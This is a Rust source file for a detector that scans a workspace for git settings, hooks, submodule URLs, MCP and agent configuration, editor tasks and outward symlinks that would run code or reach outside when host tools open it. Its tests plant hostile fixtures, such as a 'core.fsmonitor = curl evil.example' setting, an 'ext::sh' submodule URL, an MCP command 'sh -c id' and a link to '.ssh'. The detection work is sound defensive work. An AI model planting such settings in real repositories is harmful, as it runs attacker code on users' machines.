//! What a workspace brought along that would make programs on the *host* run something, or lead them elsewhere.
//!
//! A bottle shows none of it to the host and nothing of it runs in carboy. But who cloned or unpacked a hostile tree will
//! use git, an editor or an agent in it outside one day: they are told, by path and by what would run.
//!
//! ```text
//!   fixed places   .git/config, hooks, .gitmodules, .mcp.json, .claude/…, .vscode/tasks.json, .carboy/…
//!   search         links that lead out, repositories below the workspace's own
//! ```
//!
//! *Must never* run git or anything else, follow a link, or read a file without a bound; it changes nothing.

use std::collections::VecDeque;
use std::io::Read;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};
use std::time::{Duration, Instant};

use rustix::fs::{Dir, FileType, OFlags, readlinkat};
use serde_json::Value;

use crate::git_config::settings_that_run;
use crate::protect::{open_below, open_root};

/// Most things that are named; the rest is counted.
pub const NOTICED_MAX: usize = 40;
/// Most directory entries that are looked at.
const ENTRIES_MAX: usize = 300_000;
/// Longest search.
const SEARCH_MAX: Duration = Duration::from_secs(3);
/// Most directories that wait to be looked at.
const WAITING_MAX: usize = 100_000;
/// Longest file that is read.
const FILE_BYTES_MAX: u64 = 256 * 1024;
/// Longest text about one thing, in characters.
const WHAT_CHARS_MAX: usize = 160;

/// Places of the system: a link to an interpreter there is what every virtual environment has.
const SYSTEM: [&str; 8] = ["/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/opt", "/nix"];

/// One thing that is worth a look before programs of the host are used in the workspace.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Noticed {
    /// Below the workspace.
    pub path: PathBuf,
    /// What it would do: `core.fsmonitor = … runs with git`.
    pub what: String,
}

/// Looks through a workspace; at most [`NOTICED_MAX`] entries and one that counts the rest. An unreadable workspace has
/// nothing to notice: no bottle can be made of it either.
pub fn notice(workspace: &Path) -> Vec<Noticed> {
    let Ok(fd) = open_root(workspace) else { return Vec::new() };
    let mut look = Look { root: workspace, fd: &fd, found: Vec::new(), more: 0 };
    look.repository(Path::new(".git"));
    look.submodules();
    look.files_that_start_programs();
    look.own_files();
    look.search();
    let Look { mut found, more, .. } = look;
    if more > 0 {
        found.push(Noticed { path: PathBuf::new(), what: format!("and {more} more of the kind") });
    }
    found
}

struct Look<'a> {
    root: &'a Path,
    fd: &'a OwnedFd,
    found: Vec<Noticed>,
    more: u64,
}

impl Look<'_> {
    fn say(&mut self, path: &Path, what: impl Into<String>) {
        if self.found.len() >= NOTICED_MAX {
            self.more += 1;
            return;
        }
        let what: String = what.into();
        let shown = what.chars().take(WHAT_CHARS_MAX).map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect();
        self.found.push(Noticed { path: path.to_owned(), what: shown });
    }

    fn text(&self, below: &Path) -> Option<String> {
        let fd = open_below(self.fd, below, OFlags::RDONLY | OFlags::NONBLOCK | OFlags::NOCTTY).ok()?;
        let file = std::fs::File::from(fd);
        if !file.metadata().ok()?.is_file() {
            return None;
        }
        let mut bytes = Vec::new();
        file.take(FILE_BYTES_MAX).read_to_end(&mut bytes).ok()?;
        // An empty one starts nothing; the stubs of a run are such.
        (!bytes.is_empty()).then(|| String::from_utf8_lossy(&bytes).into_owned())
    }

    fn names(&self, below: &Path) -> Vec<(PathBuf, FileType)> {
        let directory = if below.as_os_str().is_empty() { Path::new(".") } else { below };
        let Ok(fd) = open_below(self.fd, directory, OFlags::RDONLY | OFlags::DIRECTORY) else { return Vec::new() };
        let Ok(entries) = Dir::read_from(&fd) else { return Vec::new() };
        let named = entries.map_while(Result::ok).take(ENTRIES_MAX).filter_map(|entry| {
            let name = entry.file_name().to_bytes();
            let own = name == b"." || name == b"..";
            (!own).then(|| (PathBuf::from(std::ffi::OsStr::from_bytes(name)), entry.file_type()))
        });
        named.collect()
    }

    /// Settings and hooks of one git directory.
    fn repository(&mut self, git: &Path) {
        for name in ["config", "config.worktree"] {
            let path = git.join(name);
            for setting in self.text(&path).map(|text| settings_that_run(&text)).unwrap_or_default() {
                self.say(&path, format!("{setting} (git on the host would follow it)"));
            }
        }
        for (name, _) in self.names(&git.join("hooks")) {
            if name.extension().is_none_or(|extension| extension != "sample") {
                self.say(&git.join("hooks").join(name), "a hook: git on the host would run it");
            }
        }
    }

    fn submodules(&mut self) {
        let path = Path::new(".gitmodules");
        let Some(text) = self.text(path) else { return };
        for line in text.lines().map(str::trim) {
            let Some((key, value)) = line.split_once('=').map(|(key, value)| (key.trim(), value.trim())) else {
                continue;
            };
            let odd = match key.to_ascii_lowercase().as_str() {
                "url" => value.contains("::") || value.trim_start_matches('"').starts_with('-'),
                "update" => value.trim_start_matches('"').starts_with('!'),
                "path" => value.split('/').any(|part| part == "..") || value.trim_start_matches('"').starts_with('-'),
                _ => false,
            };
            if odd {
                self.say(path, format!("{line} (a submodule that would run or reach something else)"));
            }
        }
    }

    /// What editors and agents of the host start when they are opened here.
    fn files_that_start_programs(&mut self) {
        for (path, below) in [
            (".mcp.json", "mcpServers"),
            (".cursor/mcp.json", "mcpServers"),
            (".vscode/mcp.json", "servers"),
            (".gemini/settings.json", "mcpServers"),
            (".claude/settings.json", "hooks"),
            (".claude/settings.local.json", "hooks"),
            (".cursor/hooks.json", "hooks"),
        ] {
            let path = Path::new(path);
            let Some(text) = self.text(path) else { continue };
            let commands = match serde_json::from_str::<Value>(&text) {
                Ok(value) => value.get(below).map(commands).unwrap_or_default(),
                // With comments in it, say: what it starts is not told, that it is there is.
                Err(_) => vec!["something".to_owned()],
            };
            for command in commands {
                self.say(path, format!("starts `{command}` when its program is opened here"));
            }
        }
        if self.text(Path::new(".vscode/tasks.json")).is_some_and(|text| text.contains("folderOpen")) {
            self.say(Path::new(".vscode/tasks.json"), "a task that runs when the folder is opened");
        }
        if self.text(Path::new(".codex/config.toml")).is_some_and(|text| text.contains("command")) {
            self.say(Path::new(".codex/config.toml"), "starts a command when its program is opened here");
        }
        if self.text(Path::new(".envrc")).is_some() {
            self.say(Path::new(".envrc"), "a script that direnv runs once it was allowed");
        }
    }

    /// Files for carboy itself: a repository may choose a bottle and nothing else.
    fn own_files(&mut self) {
        for (name, _) in self.names(Path::new(".carboy/bottles")) {
            self.say(&Path::new(".carboy/bottles").join(name), "a bottle's file: ignored, bottles are the home's");
        }
        for (name, _) in self.names(Path::new(".carboy/agents")) {
            self.say(
                &Path::new(".carboy/agents").join(name),
                "an agent's file: it is asked about before its first run",
            );
        }
        if self.text(Path::new(".carboy/settings.yml")).is_some() {
            self.say(Path::new(".carboy/settings.yml"), "settings: ignored, they are the home's");
        }
    }

    fn search(&mut self) {
        let deadline = Instant::now() + SEARCH_MAX;
        let mut waiting = VecDeque::from([PathBuf::new()]);
        let mut seen = 0;
        while let Some(below) = waiting.pop_front() {
            let names = self.names(&below);
            seen += names.len();
            if seen > ENTRIES_MAX || waiting.len() > WAITING_MAX || Instant::now() > deadline {
                self.say(Path::new(""), "too large to be looked through: links and nested repositories may be missed");
                return;
            }
            let has = |name: &str| names.iter().any(|(found, _)| found == Path::new(name));
            // A repository needs no `.git` to be one, and the common directory of worktrees no `HEAD`.
            let is_one = has("objects") && has("refs") || has("HEAD") && has("commondir");
            if is_one && below != Path::new(".git") {
                self.repository(&below);
            }
            for (name, kind) in &names {
                let path = below.join(name);
                if *kind == FileType::Symlink {
                    self.link(&path);
                } else if *kind == FileType::Directory {
                    waiting.push_back(path);
                }
            }
        }
    }

    fn link(&mut self, path: &Path) {
        let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else { return };
        let directory = if parent.as_os_str().is_empty() { Path::new(".") } else { parent };
        let Ok(fd) = open_below(self.fd, directory, OFlags::PATH | OFlags::DIRECTORY) else { return };
        let Ok(target) = readlinkat(&fd, name, Vec::new()) else { return };
        let target = Path::new(std::ffi::OsStr::from_bytes(target.to_bytes())).to_owned();
        let absolute = lexically(&self.root.join(parent).join(&target));
        let harmless = absolute.starts_with(self.root) || SYSTEM.iter().any(|system| absolute.starts_with(system));
        if !harmless {
            self.say(path, format!("a link that leads out: {}", target.display()));
        }
    }
}

/// Without `.` and `..`, and without looking at any file.
fn lexically(path: &Path) -> PathBuf {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => {
                plain.pop();
            }
            Component::CurDir => {}
            Component::RootDir | Component::Prefix(_) | Component::Normal(_) => plain.push(part),
        }
    }
    plain
}

/// Every `command` (with its `args`), and every `url`, wherever it stands.
fn commands(value: &Value) -> Vec<String> {
    match value {
        Value::Array(items) => items.iter().flat_map(commands).collect(),
        Value::Object(map) => {
            let own = match map.get("command").or_else(|| map.get("url")) {
                Some(Value::String(command)) => {
                    let args =
                        map.get("args").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
                    vec![std::iter::once(command.as_str()).chain(args).collect::<Vec<_>>().join(" ")]
                }
                Some(_) | None => Vec::new(),
            };
            own.into_iter().chain(map.values().flat_map(commands)).collect()
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn write(root: &Path, path: &str, content: &str) {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    fn noticed(root: &Path) -> Vec<(String, String)> {
        notice(root).into_iter().map(|n| (n.path.display().to_string(), n.what)).collect()
    }

    #[test]
    fn each_thing_that_would_run_on_the_host_is_named() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let bare = "[core]\n\tbare = true\n\tfsmonitor = touch /tmp/x\n";
        write(&root, ".git/config", "[core]\n\tfsmonitor = curl evil.example\n[user]\n\tname = A\n");
        write(&root, ".git/hooks/pre-commit", "#!/bin/sh\n");
        write(&root, ".git/hooks/pre-push.sample", "#!/bin/sh\n");
        write(&root, ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/x\n");
        write(&root, ".mcp.json", r#"{"mcpServers": {"a": {"command": "sh", "args": ["-c", "id"]}}}"#);
        write(&root, ".claude/settings.json", r#"{"hooks": {"Stop": [{"hooks": [{"command": "evil"}]}]}}"#);
        write(&root, ".carboy/bottles/wide.md", "---\n---\n");
        write(&root, "vendor/lib/config", bare);
        write(&root, "vendor/lib/HEAD", "ref: refs/heads/main\n");
        write(&root, "vendor/lib/objects/x", "");
        write(&root, "vendor/lib/refs/x", "");
        std::os::unix::fs::symlink("../../../home/me/.ssh", root.join("vendor/keys")).unwrap();
        std::os::unix::fs::symlink("/usr/bin/python3", root.join("vendor/python")).unwrap();
        std::os::unix::fs::symlink("lib/config", root.join("vendor/inside")).unwrap();
        let found = noticed(&root);
        let whats: Vec<(&str, &str)> = found.iter().map(|(path, what)| (path.as_str(), what.as_str())).collect();
        for (path, part) in [
            (".git/config", "core.fsmonitor = curl evil.example"),
            (".git/hooks/pre-commit", "a hook"),
            (".gitmodules", "ext::sh"),
            (".mcp.json", "`sh -c id`"),
            (".claude/settings.json", "`evil`"),
            (".carboy/bottles/wide.md", "ignored"),
            ("vendor/lib/config", "core.fsmonitor = touch"),
            ("vendor/keys", "leads out"),
        ] {
            assert!(whats.iter().any(|(p, w)| *p == path && w.contains(part)), "{path} {part}: {whats:?}");
        }
        assert_eq!(whats.len(), 8, "{whats:?}");
    }

    #[test]
    fn an_ordinary_tree_has_nothing_to_notice() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        write(&root, ".git/config", "[core]\n\tfilemode = true\n[remote \"o\"]\n\turl = https://git.example/x\n");
        write(&root, "src/main.rs", "fn main() {}");
        // As the stubs of a run.
        write(&root, ".mcp.json", "");
        std::os::unix::fs::symlink("main.rs", root.join("src/lib.rs")).unwrap();
        assert_eq!(noticed(&root), []);
    }

    #[test]
    fn hostile_text_is_cut_and_made_safe_and_the_rest_is_counted() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        write(
            &root,
            ".mcp.json",
            &format!("{{\"mcpServers\": {{\"a\": {{\"command\": \"\\u001b[2J{}\"}}}}}}", "x".repeat(9000)),
        );
        for i in 0..NOTICED_MAX + 5 {
            write(&root, &format!(".git/hooks/h{i}"), "");
        }
        let found = notice(&root);
        assert_eq!(found.len(), NOTICED_MAX + 1);
        assert!(found[NOTICED_MAX].what.contains("and 6 more"), "{:?}", found[NOTICED_MAX]);
        fs::remove_dir_all(root.join(".git")).unwrap();
        let [one] = &notice(&root)[..] else { panic!("one thing is there") };
        assert!(!one.what.contains('\u{1b}') && one.what.chars().count() <= WHAT_CHARS_MAX);
    }
}
